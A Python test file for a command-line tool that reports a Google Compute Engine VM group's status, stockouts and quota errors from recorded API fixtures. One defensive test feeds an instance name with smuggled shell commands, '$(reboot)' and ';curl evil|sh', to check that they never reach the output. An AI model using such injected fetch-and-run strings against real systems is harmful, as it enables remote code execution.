"""GCE's view of the VM's group from the API's answers (the fixtures), as `status` shows it."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from kgg.cli.capacity import group_state, render_group

from .fake_gce import fixture_body

# The stockout fixture's newest error is at 08:55 UTC.
NOW = datetime(2026, 11, 27, 9, 5, tzinfo=UTC)


def state(scenario: str, now: datetime = NOW, **replace):
    group = fixture_body(scenario, "GET", "instanceGroupManagers/kgg-dev-0a1b2c")
    managed = fixture_body(scenario, "POST", "/listManagedInstances").get("managedInstances", [])
    errors = fixture_body(scenario, "GET", "/listErrors").get("items", [])
    template = fixture_body(scenario, "GET", "/instanceTemplates/kg-template-5f3c2a1")
    parts = {"group": group, "managed": managed, "errors": errors, "template": template} | replace
    return group_state(now=now, **parts)


def text(scenario: str, **replace) -> str:
    return "\n".join(render_group(state(scenario, **replace), NOW))


def test_running_group_names_its_vm_and_the_zone_gce_chose():
    assert state("running").phase == "running"
    assert text("running") == (
        "VM:          kgg-dev-0a1b2c-7kq2 in us-central1-b, RUNNING "
        "(group kgg-dev-0a1b2c, us-central1 (a, b, c, f))"
    )


def test_stopped_group_says_there_are_no_vm_charges_and_how_to_start_it():
    assert state("stopped").phase == "stopped"
    lines = text("stopped").splitlines()
    assert lines[0] == "VM:          stopped (group kgg-dev-0a1b2c at size 0): no VM charges"
    assert "kgg start" in lines[1] and "us-central1 (a, b, c, f)" in lines[1]


def test_stockout_reads_as_waiting_for_capacity_for_the_gpu_in_the_groups_zones():
    assert state("stockout").phase == "waiting"
    first = text("stockout").splitlines()[0]
    # Since the oldest error of the wait (08:05 UTC), 60 minutes before NOW.
    assert first == (
        "VM:          waiting for capacity: nvidia-tesla-t4 in us-central1 (a, b, c, f), "
        "since 08:05:00 UTC (1h 00m)"
    )


def test_stockout_shows_the_last_error_per_zone_and_since_when():
    rows = {line.split()[0]: line.split()[1:] for line in text("stockout").splitlines()[1:5]}
    assert rows["zone"] == ["last", "GCE", "error", "since", "last"]
    assert rows["us-central1-a"] == [
        "ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS",
        "08:25:00",
        "08:55:00",
    ]
    assert rows["us-central1-b"] == ["ZONE_RESOURCE_POOL_EXHAUSTED", "08:10:00", "08:20:00"]
    assert rows["us-central1-f"] == ["ZONE_RESOURCE_POOL_EXHAUSTED", "08:05:00", "08:40:00"]
    assert "us-central1-c" not in rows


def test_stockout_shows_the_current_attempt_and_the_zones_gce_says_have_capacity():
    lines = text("stockout")
    assert (
        "  now: us-central1-a: ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS: A n1-highmem-4" in lines
    )
    assert "GCE says these zones have capacity now: us-central1-c, us-east1-c" in lines
    # us-east1-c is outside the group: say how to add it (the group is recreated).
    assert "pulumi config set --path 'zones[4]' us-east1-c" in lines
    assert "GCE keeps trying by itself" in lines
    assert "kgg stop && kgg start" in lines


def test_errors_older_than_a_day_belong_to_an_earlier_wait():
    later = datetime(2026, 11, 29, 9, 0, tzinfo=UTC)
    waiting = state("stockout", now=later, managed=[])
    assert waiting.zone_errors == ()
    assert waiting.phase == "starting"


def test_a_new_error_code_starts_a_new_since():
    errors = fixture_body("stockout", "GET", "/listErrors")["items"]
    quota = {
        **errors[0],
        "error": {"code": "QUOTA_EXCEEDED", "message": "Quota 'NVIDIA_T4_GPUS' exceeded."},
        "timestamp": "2026-11-27T01:00:00.000-08:00",
    }
    zone_a = state("stockout", errors=[quota, *errors]).zone_errors[0]
    assert (zone_a.zone, zone_a.code) == ("us-central1-a", "QUOTA_EXCEEDED")
    assert zone_a.since == zone_a.last


def test_quota_error_says_retrying_does_not_help():
    quota = {"code": "QUOTA_EXCEEDED", "message": "Quota 'NVIDIA_T4_GPUS' exceeded. Limit: 0.0"}
    managed = fixture_body("stockout", "POST", "/listManagedInstances")["managedInstances"]
    failing = [{**managed[0], "lastAttempt": {"errors": {"errors": [quota]}}}]
    result = state("stockout", managed=failing, errors=[])
    assert result.phase == "failing"
    lines = "\n".join(render_group(result, NOW))
    assert "GCE cannot create the VM in us-central1 (a, b, c, f)" in lines
    assert "A quota error is not capacity: retrying does not help" in lines


def test_vm_being_created_without_errors_yet_is_starting():
    managed = fixture_body("stockout", "POST", "/listManagedInstances")["managedInstances"]
    creating = [{**managed[0], "lastAttempt": {}}]
    result = state("stockout", managed=creating, errors=[])
    assert result.phase == "starting"
    assert render_group(result, NOW)[0].startswith("VM:          being created in us-central1")


def test_names_that_are_not_gce_names_never_reach_the_output():
    hostile = {
        "instance": "https://x/projects/p/zones/us-central1-b$(reboot)/instances/vm;curl evil|sh",
        "instanceStatus": "RUNNING",
    }
    result = state("running", managed=[hostile])
    assert result.running is not None
    assert (result.running.name, result.running.zone) == ("", "")
    assert "evil" not in "\n".join(render_group(result, NOW))


def test_gpu_comes_from_the_templates_accelerator_when_it_has_no_gpu_label():
    template = fixture_body("stockout", "GET", "/instanceTemplates/kg-template-5f3c2a1")
    properties = {**template["properties"], "labels": {}}
    result = state("stockout", template={**template, "properties": properties})
    assert result.gpu == "nvidia-tesla-t4"


def test_the_group_template_falls_back_to_its_first_version_when_the_top_field_is_absent() -> None:
    """A group made with `versions` may leave `instanceTemplate` out (the GPU label is read from
    the template `versions[0]` names)."""
    from kgg.cli import vm
    from kgg.cli.gce import Compute, GroupRef

    from .fake_gce import GROUP_PATH, fixture_body

    described = dict(fixture_body("running", "GET", "kgg-dev-0a1b2c"))
    del described["instanceTemplate"]
    asked: list[str] = []

    class Recorded(Compute):
        """The recorded answers; no session: every call read_group makes is one of these."""

        def get_group(self, group: GroupRef) -> dict[str, Any]:
            return described

        def get_template(self, url: str) -> dict[str, Any]:
            asked.append(url)
            return fixture_body("running", "GET", "kg-template-5f3c2a1")

        def list_managed_instances(self, group: GroupRef) -> list[dict[str, Any]]:
            return []

        def list_errors(self, group: GroupRef) -> list[dict[str, Any]]:
            return []

        def list_per_instance_configs(self, group: GroupRef) -> list[dict[str, Any]]:
            return []

        def labelled_instances(self, project: str, labels: dict[str, str]) -> list[dict[str, Any]]:
            return []

    state = vm.read_group(Recorded(session=None), GroupRef.parse(GROUP_PATH))

    assert asked == [described["versions"][0]["instanceTemplate"]]
    assert state.gpu == "nvidia-tesla-t4"


def test_a_stockouts_long_text_comes_from_its_localized_detail_as_gce_sends_it():
    s = state("stockout")
    assert s.attempt is not None
    assert s.attempt.message.startswith("A n1-highmem-4 VM instance with 1 nvidia-tesla-t4 is")
